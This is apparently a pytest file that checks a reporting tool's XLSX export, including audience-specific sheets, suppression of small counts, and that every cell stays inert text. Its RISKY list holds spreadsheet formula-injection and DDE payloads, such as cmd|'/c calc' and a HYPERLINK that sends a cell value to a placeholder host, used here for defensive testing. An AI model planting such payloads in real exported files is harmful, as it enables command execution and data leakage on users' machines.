"""The workbook: for each audience what it may see, and nothing in it that a spreadsheet would reckon, follow or run."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from python_calamine import CalamineWorkbook

from everystone.account.report import MARKS
from everystone.account.totals import Tally, Totals
from everystone.account.untold import Untold
from everystone.account.workbook import LONGEST, write_workbook
from everystone.standards.pack import Pack
from tests.account.conftest import World
from tests.account.invented import HOSTILE
from tests.account.test_report import AUDIENCES, CLOSED, DETAILED, what_identifies

Report = Callable[[str], Path]

#: What spreadsheets take for a formula or a link: every beginning, behind blanks and hidden characters, full-width, DDE.
RISKY = [
    *(f"{prefix}1+1" for prefix in "=+-@|%"),
    *(f"{blank}=1+1" for blank in (" ", "\t", "\n", "\r", "\r\n", "\u00a0", "\u200b", "\ufeff", "\u202e", "\x00", "'", '"', ";", ",")),
    *(f"{wide}1+1" for wide in "＝＋－＠"),
    '=HYPERLINK("http://example.invalid/?"&A1,"open")', "=cmd|'/c calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '+DDE("cmd";"/C calc";"x")', '=IMPORTXML("http://example.invalid","//a")', "=WEBSERVICE(\"http://example.invalid\")",
    "{=1+1}", "http://example.invalid", "mailto:a@example.invalid", "internal:Findings!A1", "external:c:\\x.xlsx", "file:///etc/hosts",
    "1e5", "0012", "TRUE", "2012-01-02", "_x0041_", "<b>&amp;</b>", "]]>", "x" * 40_000,
]  # fmt: skip


def sheets(path: Path) -> dict[str, list[list[Any]]]:
    book = CalamineWorkbook.from_path(str(path))
    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}


def inside(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(BytesIO(path.read_bytes())) as held:
        return {name: held.read(name).decode() for name in held.namelist()}


@pytest.fixture(scope="module")
def risky(pack: Pack, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workbook whose every text is one that a spreadsheet might run."""
    totals = Totals(Tally(10, 1, 1), {"": []}, [], [], [(text, Tally(20, 1, 1)) for text in RISKY], 1, [])
    given = {
        "run": {}, "unused": ["1 of 8 rows could not be used"], "moments": SimpleNamespace(as_at="now", known_on="now"), "mark": "=MARK & Co", "standards": 1, "askable": 1,
        "looked": SimpleNamespace(cases=1, children=1), "limits": "=1+1", "sealed": 0, "totals": totals, "threatened": {"": "x"},
        "untold": Untold([], [], [], []),
    }  # fmt: skip
    path = tmp_path_factory.mktemp("risky") / "report.xlsx"
    write_workbook(path, given, None, pack, ())
    return path


def test_every_text_is_a_text_and_is_kept(risky: Path) -> None:
    rows = [row[0] for row in sheets(risky)["Teams"][3:]]
    assert len(rows) == len(RISKY)
    for wrote, read in zip(RISKY, rows, strict=True):
        assert isinstance(read, str)
        assert (
            read
            == re.sub(r"[^ -~＝＋－＠]", lambda found: f"<U+{ord(found[0]):04X}>", wrote)[:LONGEST].replace(
                "\u00a0", " "
            )
            or "\u00a0" in wrote
        )


def test_nothing_is_reckoned_followed_or_run(risky: Path) -> None:
    parts = inside(risky)
    assert not [
        name for name in parts if re.search(r"vba|externalLink|connections|embeddings|calcChain|rels/sheet", name)
    ]
    for name, xml in parts.items():
        if name.startswith("xl/worksheets/"):
            assert not re.search(r"<(f|hyperlink|dataValidation|legacyDrawing|oleObject)[ >/]", xml), name
            assert not re.findall(r'<c [^>]*t="(?!s")[^"]*"', xml), (
                "a text is kept among the texts, and is of no other sort"
            )
    styles = parts["xl/styles.xml"]
    assert 'quotePrefix="1"' in styles and 'numFmtId="49"' in styles, "and it stays a text where somebody edits it"


@pytest.mark.parametrize("audience", AUDIENCES)
def test_each_audience_has_its_sheets_under_its_mark(audience: str, report: Report) -> None:
    path = report(audience).with_suffix(".xlsx")
    found = sheets(path)
    closed = ["About", "Standards", "Teams", "Could not be told"]
    assert [*found] == (["About", "Attention first", *closed[1:], "Findings"] if audience in DETAILED else closed)
    for name, rows in found.items():
        assert rows[0][0] == MARKS[audience], name
        assert len(rows) > 3, name
    printed = [xml for name, xml in inside(path).items() if name.startswith("xl/worksheets/")]
    assert all(f"<oddHeader>&amp;C&amp;8{MARKS[audience]}" in xml for xml in printed), (
        "so that every page of a print bears it"
    )
    assert path.stat().st_mode & 0o077 == 0


@pytest.mark.parametrize("audience", CLOSED)
def test_those_who_oversee_learn_of_nobody_and_of_no_few(audience: str, report: Report, world: World) -> None:
    found = sheets(report(audience).with_suffix(".xlsx"))
    shown = "\n".join(str(cell) for rows in found.values() for row in rows for cell in row)
    assert not {text for text in what_identifies(world) if len(text) > 3 and text in shown}
    for name in ("Standards", "Teams"):
        place = found[name][2].index("Due")
        for row in found[name][3:]:
            assert all(
                cell in (0, "", "too few to tell apart") or cell >= 10
                for cell in (row[place], row[place + 1], row[place + 3])
            )


def test_the_findings_of_the_force_are_all_there_and_none_is_of_an_officer(report: Report) -> None:
    rows = sheets(report("force").with_suffix(".xlsx"))["Findings"]
    assert rows[2][:4] == ["Tier", "Case", "Of whom", "Standard"]
    assert len(rows) > 100
    assert {row[5] for row in rows[3:]} == {"not met", "cannot be told"}
    assert not any(re.match(r"O\d|S\d", str(row[2])) for row in rows[3:])
    assert not any(HOSTILE in str(cell) for row in rows for cell in row), "no narrative"


def test_the_same_question_gives_the_same_workbook(report: Report, pack: Pack, risky: Path, tmp_path: Path) -> None:
    first = inside(report("oversight").with_suffix(".xlsx"))
    second = inside(report("public").with_suffix(".xlsx"))
    assert first["xl/worksheets/sheet2.xml"].replace(MARKS["oversight"], "") == second[
        "xl/worksheets/sheet2.xml"
    ].replace(MARKS["public"], "")
    assert first["docProps/core.xml"].count("2026-11-20T00:00:00Z") == 2
